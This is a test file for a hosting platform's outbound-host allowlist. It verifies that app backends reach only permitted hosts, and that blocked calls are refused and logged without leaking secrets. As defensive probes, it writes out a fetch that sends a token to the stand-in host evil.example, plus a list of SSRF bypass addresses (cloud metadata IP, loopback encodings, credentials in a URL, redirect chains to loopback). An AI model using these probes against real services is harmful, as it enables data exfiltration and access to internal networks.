/** What the isolate of a backend reaches, where its owner allows hosts: the world behind is scripted (scripted-world.ts). */
import { runInDurableObject } from 'cloudflare:test';
import { describe, expect, test } from 'vitest';
import { allowHosts, bindings, deploy, emptySite, rawBackend, saveParts } from '../deploy.ts';

const ALLOWED = ['api.weather.example', 'files.weather.example'];

/** A backend that runs expressions and says how each ended. */
function probeOf(expressions: Record<string, string>) {
  const attempts = Object.entries(expressions).map(
    ([name, expression]) => `await attempt(${JSON.stringify(name)}, async () => (${expression}));`,
  );
  return rawBackend(`
    const results = {};
    const attempt = async (name, work) => {
      try { results[name] = await work(); } catch (error) { results[name] = 'threw ' + error.name + ': ' + error.message; }
    };
    const tell = async (answer) => ({ status: answer.status, url: answer.url, redirected: answer.redirected, ...await answer.json() });
    ${attempts.join('\n')}
    return Response.json(results);
  `);
}

async function probe(slug: string, expressions: Record<string, string>, hosts = ALLOWED) {
  const { call, host } = await deploy(await saveParts(emptySite, probeOf(expressions)), { slug, hosts });
  // biome-ignore lint/suspicious/noExplicitAny: whatever the expressions gave
  return { found: (await (await call('/api/probe')).json()) as Record<string, any>, call, host };
}

describe('the way out of an isolate', () => {
  test('[OUT2] [OUT5] an app calls a host that is allowed, as fetch does elsewhere', async () => {
    const { found } = await probe('calls-out', {
      get: `tell(await fetch('https://api.weather.example/v1?q=1', { headers: { authorization: 'Bearer k', 'x-hewn-log': '1', 'x-forwarded-for': '1.1.1.1' } }))`,
      post: `tell(await fetch(new Request('https://api.weather.example/v1', { method: 'POST', body: JSON.stringify({ a: 1 }), headers: { 'content-type': 'application/json' } })))`,
      answer: `[...(await fetch('https://api.weather.example/')).headers.keys()].filter((name) => name.startsWith('x-'))`,
      url: `tell(await fetch(new URL('https://files.weather.example/')))`,
    });
    expect(found.get).toMatchObject({
      status: 200,
      redirected: false,
      url: 'https://api.weather.example/v1?q=1',
      method: 'GET',
      isSigned: true,
    });
    expect(found.get.headers).toMatchObject({ authorization: 'Bearer k' });
    expect(JSON.stringify(found.get.headers)).not.toMatch(/x-hewn|x-forwarded/);
    expect(found.post).toMatchObject({
      method: 'POST',
      body: '{"a":1}',
      headers: { 'content-type': 'application/json' },
    });
    expect(found.answer).toEqual(['x-rate']);
    expect(found.url.status).toBe(200);
  });

  test('[OUT2] nothing else is reached: no other host, scheme or port, no WebSocket, no TCP', async () => {
    const addresses = [
      'https://evil.example/?token=secret',
      'http://api.weather.example/',
      'https://api.weather.example:8443/',
      'https://user:password@api.weather.example/',
      'https://api.weather.example./',
      'https://127.0.0.1/',
      'https://2130706433/',
      'https://[::1]/',
      'https://[::ffff:7f00:1]/',
      'https://169.254.169.254/',
      'https://localhost/',
      'https://calls-nothing-else.apps.localhost/',
    ];
    const { found, host } = await probe('calls-nothing-else', {
      ...Object.fromEntries(addresses.map((address) => [address, `(await fetch('${address}')).status`])),
      upgrade: `(await fetch('https://api.weather.example/', { headers: { upgrade: 'websocket' } })).status`,
      WebSocket: `await new Promise((resolve, reject) => { const socket = new WebSocket('wss://api.weather.example/'); socket.addEventListener('open', resolve); socket.addEventListener('error', () => reject(new Error('refused'))); socket.addEventListener('close', () => reject(new Error('refused'))); })`,
      TCP: `await (await import('cloudflare:sockets')).connect({ hostname: 'api.weather.example', port: 443 }).readable.getReader().read().then(({ done }) => { if (done) throw new Error('closed'); })`,
    });
    for (const [name, result] of Object.entries(found)) {
      expect([name, String(result)]).toEqual([name, expect.stringMatching(/^threw /)]);
      if (!name.startsWith('http')) continue;
      const { hostname } = new URL(name);
      expect(result).toContain(`TypeError: ${hostname} was not called: `);
      expect(result).toContain('Deploy tab, under Outbound hosts');
    }
    // Told in the log, by the host alone.
    await expect
      .poll(async () => (await host.readLog()).map(({ message }) => message).join('\n'))
      .toContain('evil.example was not called');
    expect(JSON.stringify(await host.readLog())).not.toContain('secret');
  });

  test('[OUT3] what an answer leads to is asked for where it is allowed, by whichever way the app follows', async () => {
    const { found } = await probe('led-on', {
      allowed: `tell(await fetch('https://api.weather.example/to?https://files.weather.example/f', { headers: { authorization: 'Bearer secret', 'x-api-key': 'secret' } }))`,
      refused: `(await fetch('https://api.weather.example/to?https://evil.example/')).status`,
      loopback: `(await fetch('https://api.weather.example/to?http://127.0.0.1:8787/')).status`,
      manual: `(await fetch('https://api.weather.example/to?https://evil.example/', { redirect: 'manual' })).headers.get('location')`,
      // A fetch that is not ours: the runtime's own, from a place that was not wrapped.
      ...{
        stream: `await new Promise((resolve, reject) => { const source = new EventSource('https://api.weather.example/to?http://127.0.0.1:8787/'); source.onopen = () => resolve('open'); source.onerror = () => { source.close(); reject(new Error('refused')); }; })`,
      },
    });
    expect(found.allowed).toMatchObject({
      status: 200,
      redirected: true,
      url: 'https://files.weather.example/f',
    });
    expect(JSON.stringify(found.allowed)).not.toContain('secret');
    expect(found.refused).toContain('evil.example was not called');
    expect(found.loopback).toContain('127.0.0.1 was not called');
    expect(found.manual).toBe('https://evil.example/');
    expect(found.stream).toMatch(/^threw /);
  });

  test('[OUT1] [OUT7] without hosts there is no network, and the error says where to allow one', async () => {
    const { found } = await probe(
      'no-way',
      { fetch: `(await fetch('https://api.weather.example/?token=secret')).status` },
      [],
    );
    expect(found.fetch).toBe(
      'threw TypeError: api.weather.example was not called: no host is allowed. The owner of this app allows hosts in the Deploy tab, under Outbound hosts.',
    );
  });

  test('[OUT8] another list counts from the next request on; each environment has its own', async () => {
    const expressions = { fetch: `(await fetch('https://api.weather.example/')).status` };
    const hash = await saveParts(emptySite, probeOf(expressions));
    const projectId = 'project-renewed';
    const production = await deploy(hash, { slug: 'renewed', projectId, hosts: ['api.weather.example'] });
    const staging = await deploy(hash, { slug: 'renewed', projectId, environment: 'staging' });
    const ask = async ({ call }: typeof production) =>
      (await (await call('/api/probe')).json()) as { fetch: unknown };
    expect((await ask(production)).fetch).toBe(200);
    expect((await ask(staging)).fetch).toMatch(/no host is allowed/);
    await allowHosts(projectId, 'production', ['files.weather.example']);
    await production.host.renewOutbound();
    expect((await ask(production)).fetch).toMatch(/is not among those that are allowed/);
    await allowHosts(projectId, 'staging', ['api.weather.example']);
    await Promise.all([production.host.renewOutbound(), staging.host.renewOutbound()]);
    expect((await ask(production)).fetch).toMatch(/no host is allowed/);
    expect((await ask(staging)).fetch).toBe(200);
  });

  test('[OUT8] the way out outlives the object that opened it', async () => {
    const expressions = { fetch: `(await fetch('https://api.weather.example/')).status` };
    const { call, host } = await deploy(await saveParts(emptySite, probeOf(expressions)), {
      slug: 'dropped',
      hosts: ['api.weather.example'],
    });
    expect(await (await call('/api/probe')).json()).toEqual({ fetch: 200 });
    await expect(
      runInDurableObject(host, (_, state) => {
        state.abort('dropped by the test');
      }),
    ).rejects.toThrow();
    const again = bindings.APP_HOSTS.getByName('dropped--production');
    const answer = await again.fetch('http://dropped.apps.localhost/api/probe');
    expect(await answer.json()).toEqual({ fetch: 200 });
  });

  test('[OUT9] a trial has no network, whatever the owner allows', async () => {
    const slug = 'tried-out';
    const { host } = await deploy(await saveParts(emptySite, probeOf({})), { slug, hosts: ALLOWED });
    const backend = probeOf({ fetch: `(await fetch('https://api.weather.example/')).status` });
    for (const trial of [host, bindings.APP_HOSTS.getByName('trial--outbound')]) {
      await trial.openTrial({ backend, variables: {} });
      const answer = await trial.callTrial('a', new Request('http://trial.local/api/probe'));
      expect(await answer.json()).toEqual({ fetch: expect.stringContaining('no host is allowed') });
      await trial.closeTrial();
    }
  });
});
